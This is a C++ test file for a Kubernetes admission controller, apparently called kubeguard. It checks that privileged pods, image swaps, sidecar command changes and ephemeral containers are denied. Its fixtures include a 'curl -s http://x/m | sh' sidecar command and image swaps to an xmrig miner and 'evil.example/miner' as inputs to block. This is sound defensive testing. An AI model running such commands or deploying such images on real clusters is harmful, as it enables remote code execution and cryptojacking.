// Admission decisions on AdmissionReview bodies: the same catalog as scan,
// the UPDATE comparison (S1, S2, S3, S5), modes, threshold and exemptions.
#include "admission/decision.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "admission/response.h"
#include "admission/review.h"
#include "admission/review_support.h"
#include "support/test_support.h"

namespace kg::admission {
namespace {

using testing::ReviewSpec;

// A pod spec with nothing at or above high: the baseline every test changes.
constexpr std::string_view kHardenedPodSpec = R"(
    serviceAccountName: web
    automountServiceAccountToken: false
    securityContext:
      runAsNonRoot: true
      runAsUser: 10001
      seccompProfile: {type: RuntimeDefault}
    containers:
    - name: web
      image: registry.example.com/shop/web:1.4.2
      command: ["/web", "--port=8080"]
      securityContext:
        allowPrivilegeEscalation: false
        readOnlyRootFilesystem: true
        capabilities: {drop: [ALL]}
      resources:
        requests: {cpu: 100m, memory: 64Mi}
        limits: {cpu: 500m, memory: 128Mi}
)";

std::string pod(std::string_view spec = kHardenedPodSpec, std::string_view annotations = "") {
  return fmt::format("apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\n  namespace: shop\n{}spec:{}", annotations,
                     spec);
}

std::string indent(std::string_view text, std::string_view prefix) {
  std::string out;
  size_t start = 0;
  while (start < text.size()) {
    size_t end = text.find('\n', start);
    std::string_view line = text.substr(start, end == std::string_view::npos ? std::string_view::npos : end - start);
    if (!line.empty()) out += std::string(prefix) + std::string(line);
    out += '\n';
    if (end == std::string_view::npos) break;
    start = end + 1;
  }
  return out;
}

std::string deployment(std::string_view spec = kHardenedPodSpec) {
  return "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  replicas: 2\n"
         "  selector: {matchLabels: {app: web}}\n  template:\n    metadata:\n      labels: {app: web}\n"
         "    spec:" +
         indent(spec, "    ");
}

ReviewSpec deployment_review(std::string object, std::string old = "") {
  ReviewSpec s;
  s.group = "apps";
  s.kind = "Deployment";
  s.resource = "deployments";
  s.object_yaml = std::move(object);
  s.old_yaml = std::move(old);
  s.operation = s.old_yaml.empty() ? "CREATE" : "UPDATE";
  return s;
}

std::string replace(std::string text, std::string_view from, std::string_view to) {
  size_t at = text.find(from);
  EXPECT_NE(at, std::string::npos) << from;
  if (at != std::string::npos) text.replace(at, from.size(), to);
  return text;
}

Decision decide_spec(const ReviewSpec& spec, Mode mode = Mode::Enforce, const engine::Config& config = {}) {
  ParsedReview parsed = parse_review(testing::review_json(spec));
  EXPECT_TRUE(parsed) << parsed.error.message;
  if (!parsed) return {};
  Settings settings;
  settings.mode = mode;
  return decide(*parsed.request, testing::catalog(), config, settings);
}

bool has_rule(const Decision& d, std::string_view id) {
  return std::find(d.rule_ids.begin(), d.rule_ids.end(), id) != d.rule_ids.end();
}

constexpr std::string_view kPrivileged = "        capabilities: {drop: [ALL]}\n";
constexpr std::string_view kPrivilegedWith = "        capabilities: {drop: [ALL]}\n        privileged: true\n";

TEST(AdmissionDecision, HardenedPodIsAllowed) {
  ReviewSpec spec;
  spec.object_yaml = pod();
  Decision d = decide_spec(spec);
  EXPECT_EQ(d.verdict, Verdict::Allowed);
  EXPECT_TRUE(d.findings.empty()) << d.findings.front().rule_id << " " << d.findings.front().message;
}

TEST(AdmissionDecision, PrivilegedPodIsDeniedWithRuleAndField) {
  ReviewSpec spec;
  spec.object_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  Decision d = decide_spec(spec);
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_FALSE(d.allowed());
  EXPECT_TRUE(has_rule(d, "KG-POD-001"));
  EXPECT_NE(d.message.find("[KG-POD-001] spec.containers[0].securityContext.privileged"), std::string::npos)
      << d.message;
  EXPECT_NE(d.message.find("Pod shop/web"), std::string::npos) << d.message;
  std::string answer = write_response(kApiV1, spec.uid, d);
  EXPECT_NE(answer.find("\"allowed\":false"), std::string::npos) << answer;
  EXPECT_NE(answer.find("\"code\":403"), std::string::npos) << answer;
  EXPECT_NE(answer.find("\"uid\":\"" + spec.uid + "\""), std::string::npos) << answer;
}

TEST(AdmissionDecision, WarnModeAdmitsWithWarnings) {
  ReviewSpec spec;
  spec.object_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  Decision d = decide_spec(spec, Mode::Warn);
  EXPECT_EQ(d.verdict, Verdict::Warned);
  EXPECT_TRUE(d.allowed());
  ASSERT_FALSE(d.warnings.empty());
  bool named = false;
  for (const auto& w : d.warnings) {
    EXPECT_LE(w.size(), 256u);
    named = named || w.find("KG-POD-001") != std::string::npos;
  }
  EXPECT_TRUE(named);
  std::string answer = write_response(kApiV1, spec.uid, d);
  EXPECT_NE(answer.find("\"allowed\":true"), std::string::npos) << answer;
  EXPECT_NE(answer.find("\"warnings\":[\"kubeguard: [KG-POD-001]"), std::string::npos) << answer;
}

TEST(AdmissionDecision, AuditModeAdmitsWithAnnotations) {
  ReviewSpec spec;
  spec.object_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  Decision d = decide_spec(spec, Mode::Audit);
  EXPECT_EQ(d.verdict, Verdict::Audited);
  EXPECT_TRUE(d.warnings.empty());
  std::string answer = write_response(kApiV1, spec.uid, d);
  EXPECT_NE(answer.find("\"allowed\":true"), std::string::npos) << answer;
  EXPECT_NE(answer.find("\"auditAnnotations\":{\"verdict\":\"would-deny\",\"findings\":\"KG-POD-001@"),
            std::string::npos)
      << answer;
}

TEST(AdmissionDecision, ThresholdComesFromFailOn) {
  ReviewSpec spec;
  // Writable root filesystem is medium: below the default threshold, at failOn: medium.
  spec.object_yaml =
      pod(replace(std::string(kHardenedPodSpec), "readOnlyRootFilesystem: true", "readOnlyRootFilesystem: false"));
  EXPECT_EQ(decide_spec(spec).verdict, Verdict::Allowed);
  engine::Config config;
  config.fail_on = rules::Severity::Medium;
  Decision d = decide_spec(spec, Mode::Enforce, config);
  EXPECT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-POD-004")) << d.message;
}

TEST(AdmissionDecision, DisabledRuleAndExcludedNamespaceDoNotDeny) {
  ReviewSpec spec;
  spec.object_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  auto loaded = engine::parse_config("disabledRules: [KG-POD-001, KG-PSS-003, KG-SC-004]\n", ".kubeguard.yaml",
                                     testing::catalog());
  ASSERT_TRUE(loaded.errors.empty());
  Decision d = decide_spec(spec, Mode::Enforce, loaded.config);
  EXPECT_FALSE(has_rule(d, "KG-POD-001")) << d.message;
  loaded = engine::parse_config("excludedNamespaces: [shop]\n", ".kubeguard.yaml", testing::catalog());
  EXPECT_EQ(decide_spec(spec, Mode::Enforce, loaded.config).verdict, Verdict::Allowed);
}

TEST(AdmissionDecision, S1ContainerAddedToDeploymentIsDenied) {
  std::string old = deployment();
  std::string added = std::string(kHardenedPodSpec) +
                      "    - name: helper\n      image: registry.example.com/shop/web:1.4.2\n"
                      "      securityContext:\n        allowPrivilegeEscalation: false\n"
                      "        readOnlyRootFilesystem: true\n        capabilities: {drop: [ALL]}\n"
                      "      resources:\n        requests: {cpu: 10m, memory: 16Mi}\n"
                      "        limits: {cpu: 10m, memory: 16Mi}\n";
  Decision d = decide_spec(deployment_review(deployment(added), old));
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-001")) << d.message;
  EXPECT_NE(d.message.find("[KG-DRIFT-001] spec.template.spec.containers[1]"), std::string::npos) << d.message;
  // The same object created from scratch is only the catalog's business.
  Decision created = decide_spec(deployment_review(deployment(added)));
  EXPECT_FALSE(has_rule(created, "KG-DRIFT-001"));
}

TEST(AdmissionDecision, S1ImageMovedToAnotherRepositoryIsDenied) {
  std::string old = deployment();
  std::string swapped = deployment(
      replace(std::string(kHardenedPodSpec), "registry.example.com/shop/web:1.4.2", "docker.io/xmrig/xmrig:6.21.0"));
  Decision d = decide_spec(deployment_review(swapped, old));
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-002")) << d.message;
  EXPECT_NE(d.message.find("spec.template.spec.containers[0].image"), std::string::npos) << d.message;
}

TEST(AdmissionDecision, NewTagOfTheSameRepositoryIsARollout) {
  std::string old = deployment();
  std::string rollout = deployment(replace(std::string(kHardenedPodSpec), "shop/web:1.4.2", "shop/web:1.5.0"));
  Decision d = decide_spec(deployment_review(rollout, old));
  EXPECT_EQ(d.verdict, Verdict::Allowed) << d.message;
}

TEST(AdmissionDecision, DigestChangeIsDenied) {
  std::string a = "registry.example.com/shop/web@sha256:" + std::string(64, 'a');
  std::string b = "registry.example.com/shop/web@sha256:" + std::string(64, 'b');
  std::string base = replace(std::string(kHardenedPodSpec), "registry.example.com/shop/web:1.4.2", a);
  Decision d = decide_spec(deployment_review(deployment(replace(base, a, b)), deployment(base)));
  EXPECT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-002")) << d.message;
}

TEST(AdmissionDecision, PodImageSwapIsDenied) {
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.old_yaml = pod();
  spec.object_yaml =
      pod(replace(std::string(kHardenedPodSpec), "registry.example.com/shop/web:1.4.2", "evil.example/miner:1"));
  Decision d = decide_spec(spec);
  EXPECT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-002")) << d.message;
}

constexpr std::string_view kIstioProxy = R"(
    - name: istio-proxy
      image: docker.io/istio/proxyv2:1.22.0
      args: ["proxy", "sidecar"]
      securityContext:
        allowPrivilegeEscalation: false
        readOnlyRootFilesystem: true
        runAsUser: 1337
        capabilities: {drop: [ALL]}
      resources:
        requests: {cpu: 10m, memory: 40Mi}
        limits: {cpu: 2000m, memory: 1Gi}
)";

std::string istio_pod(std::string_view proxy = kIstioProxy) {
  std::string annotations =
      "  annotations:\n    sidecar.istio.io/status: '{\"containers\":[\"istio-proxy\"],\"initContainers\":[],"
      "\"volumes\":[],\"imagePullSecrets\":null}'\n";
  return pod(std::string(kHardenedPodSpec) + std::string(proxy).substr(1), annotations);
}

TEST(AdmissionDecision, S5SidecarCommandChangeIsDeniedButAppCommandChangeIsNot) {
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.old_yaml = istio_pod();
  spec.object_yaml = istio_pod(replace(std::string(kIstioProxy), R"(args: ["proxy", "sidecar"])",
                                       R"(args: ["sh", "-c", "curl -s http://x/m | sh"])"));
  Decision d = decide_spec(spec);
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-003")) << d.message;

  ReviewSpec app = spec;
  app.object_yaml =
      pod(replace(std::string(kHardenedPodSpec), "--port=8080", "--port=9090") + std::string(kIstioProxy).substr(1),
          "  annotations:\n    sidecar.istio.io/status: '{\"containers\":[\"istio-proxy\"],"
          "\"initContainers\":[],\"volumes\":[],\"imagePullSecrets\":null}'\n");
  Decision allowed = decide_spec(app);
  EXPECT_FALSE(has_rule(allowed, "KG-DRIFT-003")) << allowed.message;
}

TEST(AdmissionDecision, S5SidecarImageMovedIsDenied) {
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.old_yaml = istio_pod();
  spec.object_yaml = istio_pod(
      replace(std::string(kIstioProxy), "docker.io/istio/proxyv2:1.22.0", "docker.io/attacker/proxyv2:1.22.0"));
  Decision d = decide_spec(spec);
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-002") || has_rule(d, "KG-SC-002")) << d.message;
}

TEST(AdmissionDecision, S3EphemeralContainerIsDenied) {
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.sub_resource = "ephemeralcontainers";
  spec.old_yaml = pod();
  spec.object_yaml = pod(std::string(kHardenedPodSpec) +
                         "    ephemeralContainers:\n    - name: debugger\n      image: busybox:1.36\n"
                         "      targetContainerName: web\n      command: [sh]\n");
  Decision d = decide_spec(spec);
  ASSERT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-DRIFT-004")) << d.message;
  EXPECT_NE(d.message.find("spec.ephemeralContainers[0]"), std::string::npos) << d.message;
}

TEST(AdmissionDecision, UpdateKeepsWhatTheOldObjectAlreadyHad) {
  // A pod admitted before kubeguard ran (privileged) gets a label: not this update's doing.
  std::string privileged = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.old_yaml = privileged;
  spec.object_yaml = replace(privileged, "  namespace: shop\n", "  namespace: shop\n  labels: {tier: web}\n");
  EXPECT_EQ(decide_spec(spec).verdict, Verdict::Allowed);
}

TEST(AdmissionDecision, IgnoreAnnotationDoesNotCoverWhatAnUpdateChanges) {
  std::string base = pod();
  std::string ignored =
      pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith),
          "  annotations:\n    kubeguard.io/ignore: \"*\"\n    kubeguard.io/ignore-reason: trust me\n");
  ReviewSpec spec;
  spec.operation = "UPDATE";
  spec.old_yaml = base;
  spec.object_yaml = ignored;
  Decision d = decide_spec(spec);
  EXPECT_EQ(d.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(d, "KG-POD-001")) << d.message;
  // Nor one written in the update before (two steps: annotate, then inject).
  spec.old_yaml = pod(kHardenedPodSpec,
                      "  annotations:\n    kubeguard.io/ignore: \"*\"\n    kubeguard.io/ignore-reason: trust me\n");
  Decision two_steps = decide_spec(spec);
  EXPECT_EQ(two_steps.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(two_steps, "KG-POD-001")) << two_steps.message;
  ReviewSpec drift = deployment_review(
      replace(
          deployment(replace(std::string(kHardenedPodSpec), "registry.example.com/shop/web:1.4.2", "evil.example/m:1")),
          "  namespace: shop\n", "  namespace: shop\n  annotations: {kubeguard.io/ignore: KG-DRIFT-002}\n"),
      replace(deployment(), "  namespace: shop\n",
              "  namespace: shop\n  annotations: {kubeguard.io/ignore: KG-DRIFT-002}\n"));
  Decision drifted = decide_spec(drift);
  EXPECT_EQ(drifted.verdict, Verdict::Denied);
  EXPECT_TRUE(has_rule(drifted, "KG-DRIFT-002")) << drifted.message;
  // On CREATE the author of the object speaks for it.
  ReviewSpec create;
  create.object_yaml = ignored;
  EXPECT_EQ(decide_spec(create).verdict, Verdict::Allowed);
}

TEST(AdmissionDecision, ExemptNamespaceAndUser) {
  ReviewSpec spec;
  spec.object_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  spec.name_space = "kube-system";
  EXPECT_EQ(decide_spec(spec).verdict, Verdict::Exempt);
  // kubeguard's own service account is not exempt by default: whoever can
  // mint a token for it must not pass unexamined.
  spec.name_space = "shop";
  spec.username = "system:serviceaccount:kubeguard:kubeguard";
  EXPECT_EQ(decide_spec(spec).verdict, Verdict::Denied);

  auto loaded = engine::parse_config("admission:\n  exemptNamespaces: [shop]\n  exemptUsers: [ci-bot]\n",
                                     ".kubeguard.yaml", testing::catalog());
  ASSERT_TRUE(loaded.errors.empty());
  SettingsResult settings = settings_from_config(loaded.config, Mode::Enforce);
  ASSERT_TRUE(settings.errors.empty());
  EXPECT_TRUE(settings.settings.namespace_exempt("shop"));
  EXPECT_FALSE(settings.settings.namespace_exempt("kube-system"));
  EXPECT_FALSE(settings.settings.user_exempt("system:serviceaccount:kubeguard:kubeguard"));
  EXPECT_TRUE(settings.settings.user_exempt("ci-bot"));
}

TEST(AdmissionDecision, AdmissionSettingsErrorsNameTheField) {
  auto loaded = engine::parse_config("admission:\n  exemptNamespace: [x]\n", ".kubeguard.yaml", testing::catalog());
  ASSERT_TRUE(loaded.errors.empty());
  SettingsResult settings = settings_from_config(loaded.config, Mode::Enforce);
  ASSERT_EQ(settings.errors.size(), 1u);
  EXPECT_NE(settings.errors[0].message.find("unknown field 'exemptNamespace'"), std::string::npos);
  EXPECT_EQ(settings.errors[0].mark.line, 2u);
}

// A request whose work budget runs out before its findings are complete gets
// an answer anyway: denied with a message saying why in enforce mode (the
// webhook's failure mode), admitted with a warning when overBudget: allow.
TEST(AdmissionDecision, OverTheWorkBudgetIsDeniedWithAReasonOrAdmittedWithAWarning) {
  ReviewSpec spec;
  spec.object_yaml = pod(std::string(kHardenedPodSpec));
  ParsedReview parsed = parse_review(testing::review_json(spec));
  ASSERT_TRUE(parsed);
  Settings settings;
  settings.budget = std::chrono::milliseconds(250);
  int asked = 0;
  Decision denied = decide(*parsed.request, testing::catalog(), {}, settings, [&] { return ++asked > 3; });
  EXPECT_TRUE(denied.over_budget);
  EXPECT_EQ(denied.verdict, Verdict::Denied);
  EXPECT_NE(denied.message.find("not examined within the work budget of 250 ms"), std::string::npos) << denied.message;
  EXPECT_NE(denied.message.find("CREATE Pod shop/web"), std::string::npos) << denied.message;
  EXPECT_EQ(asked, 4);  // asked between rules, and nothing ran after it said so

  settings.deny_over_budget = false;
  settings.mode = Mode::Warn;
  Decision warned = decide(*parsed.request, testing::catalog(), {}, settings, [] { return true; });
  EXPECT_TRUE(warned.allowed());
  ASSERT_EQ(warned.warnings.size(), 1u);
  EXPECT_NE(warned.warnings[0].find("admitted unexamined"), std::string::npos) << warned.warnings[0];

  // A budget that never runs out changes nothing.
  settings = Settings{};
  Decision whole = decide(*parsed.request, testing::catalog(), {}, settings, [] { return false; });
  EXPECT_FALSE(whole.over_budget);
  EXPECT_EQ(whole.verdict, Verdict::Allowed);
}

TEST(AdmissionDecision, BudgetAndOverBudgetComeFromTheAdmissionSection) {
  auto loaded = engine::parse_config("admission:\n  budgetMilliseconds: 300\n  overBudget: allow\n", ".kubeguard.yaml",
                                     testing::catalog());
  ASSERT_TRUE(loaded.errors.empty());
  SettingsResult settings = settings_from_config(loaded.config, Mode::Enforce);
  ASSERT_TRUE(settings.errors.empty());
  EXPECT_EQ(settings.settings.budget.count(), 300);
  EXPECT_FALSE(settings.settings.deny_over_budget);
  EXPECT_TRUE(settings_from_config({}, Mode::Enforce).settings.deny_over_budget);
  EXPECT_FALSE(settings_from_config({}, Mode::Warn).settings.deny_over_budget);

  auto bad = engine::parse_config("admission:\n  budgetMilliseconds: 0\n  overBudget: maybe\n", ".kubeguard.yaml",
                                  testing::catalog());
  SettingsResult errors = settings_from_config(bad.config, Mode::Enforce);
  ASSERT_EQ(errors.errors.size(), 2u);
  EXPECT_NE(errors.errors[0].message.find("budgetMilliseconds"), std::string::npos);
  EXPECT_EQ(errors.errors[1].mark.line, 3u);
}

TEST(AdmissionDecision, DeleteAndStatusAreNotExamined) {
  ReviewSpec spec;
  spec.operation = "DELETE";
  spec.old_yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  EXPECT_EQ(decide_spec(spec).verdict, Verdict::Allowed);
  ReviewSpec status;
  status.operation = "UPDATE";
  status.sub_resource = "status";
  status.object_yaml = spec.old_yaml;
  status.old_yaml = spec.old_yaml;
  EXPECT_EQ(decide_spec(status).verdict, Verdict::Allowed);
}

TEST(AdmissionDecision, EveryWorkloadKindsTemplateIsExamined) {
  std::string privileged_spec = replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith);
  std::string tmpl =
      "  template:\n    metadata:\n      labels: {app: web}\n    spec:" + indent(privileged_spec, "    ");
  struct Case {
    std::string kind, group, body;
  };
  std::vector<Case> cases = {
      {"Deployment", "apps", "spec:\n  selector: {matchLabels: {app: web}}\n" + tmpl},
      {"StatefulSet", "apps", "spec:\n  serviceName: web\n  selector: {matchLabels: {app: web}}\n" + tmpl},
      {"DaemonSet", "apps", "spec:\n  selector: {matchLabels: {app: web}}\n" + tmpl},
      {"ReplicaSet", "apps", "spec:\n  selector: {matchLabels: {app: web}}\n" + tmpl},
      {"ReplicationController", "", "spec:\n  selector: {app: web}\n" + tmpl},
      {"Job", "batch", "spec:\n" + tmpl},
      {"CronJob", "batch", "spec:\n  schedule: '* * * * *'\n  jobTemplate:\n    spec:\n" + indent(tmpl, "    ")},
  };
  for (const auto& c : cases) {
    ReviewSpec spec;
    spec.kind = c.kind;
    spec.group = c.group;
    spec.object_yaml = fmt::format("apiVersion: {}\nkind: {}\nmetadata:\n  name: web\n{}",
                                   c.group.empty() ? "v1" : c.group + "/v1", c.kind, c.body);
    Decision d = decide_spec(spec);
    EXPECT_EQ(d.verdict, Verdict::Denied) << c.kind;
    EXPECT_TRUE(has_rule(d, "KG-POD-001")) << c.kind << ": " << d.message;
  }
}

TEST(AdmissionDecision, RoleBindingsGoThroughTheCatalog) {
  ReviewSpec spec;
  spec.kind = "RoleBinding";
  spec.group = "rbac.authorization.k8s.io";
  spec.resource = "rolebindings";
  spec.object_yaml =
      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: ci\n  namespace: shop\n"
      "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: reader}\n"
      "subjects:\n- {kind: ServiceAccount, name: ci, namespace: shop}\n";
  // Whatever the catalog says about the binding is what admission answers.
  std::vector<rules::Finding> expected = testing::scan_text(spec.object_yaml).findings;
  ParsedReview parsed = parse_review(testing::review_json(spec));
  ASSERT_TRUE(parsed);
  std::vector<rules::Finding> got = evaluate_request(*parsed.request, testing::catalog(), {});
  ASSERT_EQ(got.size(), expected.size());
  for (size_t i = 0; i < got.size(); ++i) {
    EXPECT_EQ(got[i].rule_id, expected[i].rule_id);
    EXPECT_EQ(got[i].path, expected[i].path);
  }
}

TEST(AdmissionDecision, SameFindingsAsScanForACreatedObject) {
  std::string yaml = pod(replace(std::string(kHardenedPodSpec), kPrivileged, kPrivilegedWith));
  ReviewSpec spec;
  spec.object_yaml = yaml;
  ParsedReview parsed = parse_review(testing::review_json(spec));
  ASSERT_TRUE(parsed);
  std::vector<rules::Finding> got = evaluate_request(*parsed.request, testing::catalog(), {});
  std::vector<rules::Finding> expected = testing::scan_text(yaml).findings;
  std::erase_if(expected, [](const rules::Finding& f) { return f.rule_id.starts_with("KG-NET-"); });
  ASSERT_EQ(got.size(), expected.size());
  for (size_t i = 0; i < got.size(); ++i) {
    EXPECT_EQ(got[i].rule_id, expected[i].rule_id);
    EXPECT_EQ(got[i].path, expected[i].path);
    EXPECT_EQ(got[i].severity, expected[i].severity);
  }
}

}  // namespace
}  // namespace kg::admission

namespace kg::admission {
namespace {

// Skipping the old object's catalog pass when nothing could count must not
// change what counts.
TEST(AdmissionDecision, ShortcutForCleanUpdatesCountsTheSame) {
  std::string privileged = std::string(kHardenedPodSpec);
  privileged.replace(privileged.find(kPrivileged), kPrivileged.size(), kPrivilegedWith);
  std::vector<std::pair<std::string, std::string>> updates = {
      {deployment(), deployment()},
      {deployment(), deployment(replace(std::string(kHardenedPodSpec), "web:1.4.2", "web:1.5.0"))},
      {deployment(), deployment(privileged)},
      {deployment(privileged), deployment(privileged)},
      {deployment(), deployment(replace(std::string(kHardenedPodSpec), "registry.example.com/shop/web:1.4.2",
                                        "docker.io/xmrig/xmrig:6.21.0"))},
  };
  for (const auto& [old, now] : updates) {
    ParsedReview parsed = parse_review(testing::review_json(deployment_review(now, old)));
    ASSERT_TRUE(parsed);
    auto counted = [](std::vector<rules::Finding> found) {
      std::vector<std::string> out;
      for (const auto& f : found) {
        if (!f.suppressed && f.severity >= rules::Severity::High) out.push_back(f.rule_id + "@" + f.path);
      }
      std::sort(out.begin(), out.end());
      return out;
    };
    EXPECT_EQ(counted(evaluate_request(*parsed.request, testing::catalog(), {})),
              counted(evaluate_request(*parsed.request, testing::catalog(), {}, rules::Severity::High)));
  }
}

}  // namespace
}  // namespace kg::admission
